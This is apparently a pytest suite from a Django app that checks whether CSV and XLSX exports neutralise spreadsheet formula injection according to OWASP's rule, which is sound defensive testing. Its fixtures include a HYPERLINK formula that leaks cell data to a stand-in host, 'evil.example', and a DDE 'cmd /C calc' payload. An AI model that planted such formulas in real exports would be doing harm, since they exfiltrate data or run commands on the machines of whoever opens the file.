"""Exports that cannot execute: OWASP's CSV-injection rule, in CSV and in XLSX.

The rule (OWASP, "CSV Injection"): a field starting with ``=``, ``+``, ``-``, ``@``,
tab or carriage return gets a leading single quote, every field is wrapped in double
quotes and double quotes inside are doubled.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.spreadsheets import Sheet, csv_response, neutralise, xlsx_response
from accounts.tests.factories import UserFactory
from assessments import services
from assessments.tests.factories import TrueFalseFactory, quiz_with
from sessions.tests.factories import AttendanceFactory, OngoingSessionEndpointFactory

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("1+2", "1+2"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
        (-5, -5),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise_quotes_exactly_the_formula_triggers(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize(
    ("field", "line"),
    [
        # OWASP's two worked examples, character for character.
        ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
        ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
    ],
)
def test_csv_field_is_quoted_prefixed_and_escaped_as_owasp_shows(field, line):
    response = csv_response(filename="x", header=["Họ và tên"], rows=[[field]])

    lines = response.content.decode("utf-8-sig").splitlines()

    assert lines[1] == line


def test_csv_header_is_neutralised_too():
    response = csv_response(filename="x", header=["=Phiên 1"], rows=[])

    assert response.content.decode("utf-8-sig").strip() == '"\'=Phiên 1"'


def test_numbers_stay_numbers_in_xlsx_and_text_is_typed_as_text():
    response = xlsx_response(
        filename="x",
        sheets=[Sheet("Kết quả", ["Tên", "Điểm"], [[HOSTILE_NAME, -2.5]])],
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    name, score = sheet["A2"], sheet["B2"]

    assert (name.data_type, name.value) == ("s", "'" + HOSTILE_NAME)
    assert (score.data_type, score.value) == ("n", -2.5)


def test_xlsx_drops_control_characters_instead_of_failing():
    response = xlsx_response(
        filename="x", sheets=[Sheet("S", ["Tên"], [["Lê\x00Văn\x08Bình"]])]
    )

    sheet = load_workbook(io.BytesIO(response.content)).active

    assert sheet["A2"].value == "LêVănBình"


def _xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.mark.django_db
def test_a_trainee_named_like_a_formula_is_text_in_the_session_report(
    client_for, organiser
):
    link = OngoingSessionEndpointFactory()
    AttendanceFactory(
        session=link.session,
        endpoint=link.endpoint,
        user=UserFactory(full_name=HOSTILE_NAME, agency="@agency", position="-1"),
    )
    url = reverse("attendance-session-report", kwargs={"session_id": link.session_id})
    client = client_for(organiser)

    xlsx = client.get(url, {"format": "xlsx"}).content
    text = client.get(url, {"format": "csv"}).content.decode("utf-8-sig")

    cells = [cell for cell in _xlsx_cells(xlsx) if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + HOSTILE_NAME in {cell.value for cell in cells}
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0] == "'" + HOSTILE_NAME
    assert (row[2], row[3]) == ("'@agency", "'-1")


@pytest.mark.django_db
def test_a_trainee_named_like_a_formula_is_text_in_the_quiz_results(
    client_for, organiser
):
    trainee = UserFactory(full_name=HOSTILE_NAME)
    quiz = quiz_with([TrueFalseFactory()])
    services.attempt_submit(attempt=services.attempt_start(quiz=quiz, user=trainee))
    client = client_for(organiser)

    csv_text = client.get(
        reverse("assessments:results_export", args=[quiz.pk, "csv"])
    ).content.decode("utf-8-sig")
    xlsx = client.get(
        reverse("assessments:results_export", args=[quiz.pk, "xlsx"])
    ).content

    assert list(csv.reader(io.StringIO(csv_text)))[1][0] == "'" + HOSTILE_NAME
    formulas = [cell for cell in _xlsx_cells(xlsx) if cell.data_type == "f"]
    assert formulas == []


def test_no_module_but_the_shared_one_writes_spreadsheets():
    """Every export goes through accounts/spreadsheets.py, so the rule is in one
    place: no other module of the project builds a CSV writer or a workbook."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|xlsxwriter")
    offenders = [
        str(path.relative_to(root))
        for app in ("accounts", "assessments", "config", "courses", "sessions")
        for path in (root / app).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == ["accounts/spreadsheets.py"]
